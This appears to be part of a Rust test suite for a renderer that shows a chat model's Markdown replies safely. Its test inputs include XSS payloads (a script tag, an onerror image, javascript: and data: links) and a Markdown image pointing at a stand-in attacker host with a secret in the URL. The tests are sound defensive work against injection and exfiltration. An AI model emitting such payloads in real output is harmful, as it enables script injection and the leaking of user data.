            ("[*click*](javascript:x)", r#"p(em("click"))"#),
        ]);
    }

    #[test]
    fn autolinks_and_reference_links_follow_the_same_rules() {
        check(&[
            (
                "<https://example.com>",
                r#"p(a[https://example.com]("https://example.com"))"#,
            ),
            (
                "<someone@example.com>",
                r#"p(a[mailto:someone@example.com]("someone@example.com"))"#,
            ),
            ("<javascript:alert(1)>", r#"p("javascript:alert(1)")"#),
            ("[x][1]\n\n[1]: javascript:alert(1)", r#"p("x")"#),
            ("[x]\n\n[x]: data:text/html,hi", r#"p("x")"#),
            (
                "[x][1]\n\n[1]: https://example.com",
                r#"p(a[https://example.com]("x"))"#,
            ),
        ]);
    }

    #[test]
    fn images_are_links_to_open_deliberately_never_loaded() {
        check(&[
            (
                "![secret](https://evil.example/?q=SECRET)",
                r#"p(img[https://evil.example/?q=SECRET]("secret"))"#,
            ),
            (
                "![*alt* text](javascript:alert(1))",
                r#"p(img("alt text"))"#,
            ),
            ("![x](data:image/png;base64,AAAA)", r#"p(img("x"))"#),
            ("![x][i]\n\n[i]: vbscript:x", r#"p(img("x"))"#),
            // Inside a link the image has no target of its own: no `<a>` in an `<a>`.
            (
                "[![logo](https://example.com/logo.png)](https://example.com)",
                r#"p(a[https://example.com](img("logo")))"#,
            ),
        ]);
    }

    #[test]
    fn code_languages_are_labels_and_safe_classes() {
        check(&[
            ("```c#\nx\n```", r#"pre[c#]("x\n")"#),
            ("```rust ignore\nx\n```", r#"pre[rust]("x\n")"#),
            ("```\"><img/src=x>\nx\n```", r#"pre["><img/src=x>]("x\n")"#),
        ]);
        assert_eq!(language_class("rust").as_deref(), Some("language-rust"));
        assert_eq!(language_class("c++").as_deref(), Some("language-c++"));
        assert_eq!(language_class("c#").as_deref(), Some("language-c"));
        assert_eq!(
            language_class("\"><img/src=x>").as_deref(),
            Some("language-imgsrcx")
        );
        assert_eq!(language_class("\"<>\""), None);
        let long = "a".repeat(40);
        assert_eq!(
            language_class(&long),
            Some(format!("language-{}", "a".repeat(32)))
        );
        let tree = parse(&format!("```{long}\nx\n```"));
        assert_eq!(
            outline(&tree.nodes),
            format!(r#"pre[{}]("x\n")"#, "a".repeat(32))
        );
    }

    #[test]
    fn headings_sit_below_the_chats_own_heading() {
        let cases = [
            (HeadingLevel::H1, PageHeading::H3),
            (HeadingLevel::H2, PageHeading::H4),
            (HeadingLevel::H3, PageHeading::H5),
            (HeadingLevel::H4, PageHeading::H6),
            (HeadingLevel::H5, PageHeading::H6),
            (HeadingLevel::H6, PageHeading::H6),
        ];
        for (model, page) in cases {
            assert_eq!(page_heading(model), page, "{model}");
        }
    }

    #[test]
    fn a_long_reply_renders_its_first_200000_characters() {
        // Two-byte characters: the limit counts characters, not bytes.
        let text = "é".repeat(MAX_MARKDOWN_CHARS + 5);
        let tree = parse(&text);
        assert_eq!(tree.omitted_chars, 5);
        assert_eq!(plain_text(&tree.nodes).chars().count(), MAX_MARKDOWN_CHARS);
        let exact = parse(&"é".repeat(MAX_MARKDOWN_CHARS));
        assert_eq!(exact.omitted_chars, 0);
    }

    #[test]
    fn deep_nesting_is_flattened_into_text() {
        let quotes = format!("{}deepest", "> ".repeat(100));
        let lists: String = (0..100)
            .map(|level| format!("{}- item{level}\n", "  ".repeat(level)))
            .collect();
        let emphasis = format!("{}x{}", "*a ".repeat(100), " b*".repeat(100));
        for text in [&quotes, &lists, &emphasis] {
            let tree = parse(text);
            assert!(depth(&tree.nodes) <= MAX_DEPTH, "{}", depth(&tree.nodes));
            assert!(
                depth(&tree.nodes) >= MAX_DEPTH - 2,
                "{}",
                depth(&tree.nodes)
            );
            let shown = plain_text(&tree.nodes);
            for word in text.split(|c: char| !c.is_alphanumeric()) {
                assert!(shown.contains(word), "{word:?} lost");
            }
        }
        assert!(plain_text(&parse(&quotes).nodes).contains("deepest"));
        // Far deeper than any stack would survive if the tree were built by recursion.
        let tree = parse(&"> ".repeat(50_000));
        assert!(depth(&tree.nodes) <= MAX_DEPTH);
    }
}

/// The view in headless Chromium: what the elements are, that nothing the model
/// wrote became markup, and what the Copy button says.
#[cfg(all(test, target_arch = "wasm32"))]
mod browser_tests {
    #![expect(
        clippy::unwrap_used,
        reason = "clippy does not see `wasm_bindgen_test` functions as tests; a panic is a failed test"
    )]

    use wasm_bindgen::JsCast as _;
    use wasm_bindgen_test::{wasm_bindgen_test, wasm_bindgen_test_configure};

    use super::markdown_view;

    wasm_bindgen_test_configure!(run_in_browser);

    /// `markdown_view(text)` mounted into a fresh element of the body.
    fn mount(
        text: &'static str,
    ) -> (
        web_sys::HtmlElement,
        leptos::mount::UnmountHandle<impl leptos::tachys::view::Mountable>,
    ) {
        let _ = any_spawner::Executor::init_wasm_bindgen();
        let document = web_sys::window().unwrap().document().unwrap();
        let root: web_sys::HtmlElement = document.create_element("div").unwrap().unchecked_into();
        document.body().unwrap().append_child(&root).unwrap();
        let handle = leptos::mount::mount_to(root.clone(), move || markdown_view(text));
        (root, handle)
    }

    fn select(root: &web_sys::HtmlElement, selector: &str) -> Vec<web_sys::Element> {
        let list = root.query_selector_all(selector).unwrap();
        (0..list.length())
            .filter_map(|index| list.item(index))
            .map(|node| node.unchecked_into())
            .collect()
    }

    #[wasm_bindgen_test]
    fn plain_text_reads_as_it_was_written() {
        let (root, _handle) = mount("Lima");
        let reply = select(&root, "[data-testid=\"chat-reply-text\"]");
        assert_eq!(reply.len(), 1);
        assert_eq!(reply[0].class_name(), "markdown");
        assert_eq!(reply[0].text_content().unwrap(), "Lima");
        assert_eq!(reply[0].child_element_count(), 1);
        let paragraph = reply[0].first_element_child().unwrap();
        assert_eq!(paragraph.tag_name(), "P");
        assert_eq!(paragraph.child_element_count(), 0);
        assert_eq!(paragraph.text_content().unwrap(), "Lima");
    }

    #[wasm_bindgen_test]
    fn nothing_the_model_wrote_becomes_markup() {
        let (root, _handle) = mount(
            "<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> \
             [a](javascript:alert(1)) ![i](https://evil.example/?q=SECRET) [b](https://example.com)",
        );
        assert!(select(&root, "script, img, iframe").is_empty());
        assert!(select(&root, "[onerror]").is_empty());
        let links = select(&root, "a");
        let hrefs: Vec<String> = links
            .iter()
            .map(|link| link.get_attribute("href").unwrap())
            .collect();
        assert_eq!(
            hrefs,
            ["https://evil.example/?q=SECRET", "https://example.com"]
        );
        for link in &links {
            assert_eq!(link.get_attribute("target").as_deref(), Some("_blank"));
            assert_eq!(
                link.get_attribute("rel").as_deref(),
                Some("noopener noreferrer")
            );
        }
        assert_eq!(links[0].text_content().unwrap(), "image: i");
        assert!(
            root.text_content()
                .unwrap()
                .contains("<script>alert(1)</script>")
        );
    }

    #[wasm_bindgen_test]
    fn headings_tables_lists_and_code_have_their_elements() {
        let (root, _handle) = mount(
            "# Title\n\n| a |\n|---|\n| 1 |\n\n```rust\nfn main() {}\n```\n\n\
             3. three\n\n- [x] done\n- [ ] to do",
        );
        assert_eq!(select(&root, "h3").len(), 1);
        assert!(select(&root, "h1, h2").is_empty());
        let table = select(
            &root,
            "div.md-table[tabindex=\"0\"][role=\"region\"] > table",
        );
        assert_eq!(table.len(), 1);
        let code = select(
            &root,
            "figure.code-block pre[tabindex=\"0\"] > code.language-rust",
        );
        assert_eq!(code.len(), 1);
        assert_eq!(code[0].text_content().unwrap(), "fn main() {}\n");
        let language = select(&root, ".code-block-language");
        assert_eq!(language[0].text_content().unwrap(), "rust");
        let copy = select(&root, "button[data-testid=\"md-copy\"]");
        assert_eq!(copy[0].get_attribute("type").as_deref(), Some("button"));
        assert_eq!(
            copy[0].get_attribute("aria-label").as_deref(),
            Some("Copy code")
        );
        assert_eq!(copy[0].text_content().unwrap(), "Copy");
        assert_eq!(select(&root, "ol[start=\"3\"] > li").len(), 1);
        assert_eq!(
            select(&root, "li.md-task > input[type=\"checkbox\"][disabled]").len(),
            2
        );
        assert_eq!(select(&root, "input:checked").len(), 1);
    }

    #[wasm_bindgen_test]
    async fn copy_says_whether_it_copied_then_offers_copy_again() {
        let (root, _handle) = mount("```\nx\n```");
        let copy: web_sys::HtmlElement = select(&root, "[data-testid=\"md-copy\"]")
            .remove(0)
            .unchecked_into();
        let label = || copy.text_content().unwrap();
        copy.click();
        // The clipboard answers when it answers (headless Chromium may refuse);
        // either way the button says so, and nothing panics.
        for _ in 0..500 {
            if label() != "Copy" {
                break;
            }
            crate::sleep_ms(10).await;
        }
        let said = label();
        assert!(said == "Copied" || said == "Copy failed", "{said:?}");
        let status = select(&root, "[role=\"status\"]").remove(0);
        assert_ne!(status.text_content().unwrap(), "");
        // Then, after its couple of seconds, it offers to copy again.
        for _ in 0..500 {
            if label() == "Copy" {
                break;
            }
            crate::sleep_ms(20).await;
        }
        assert_eq!(label(), "Copy");
        assert_eq!(status.text_content().unwrap(), "");
    }
}
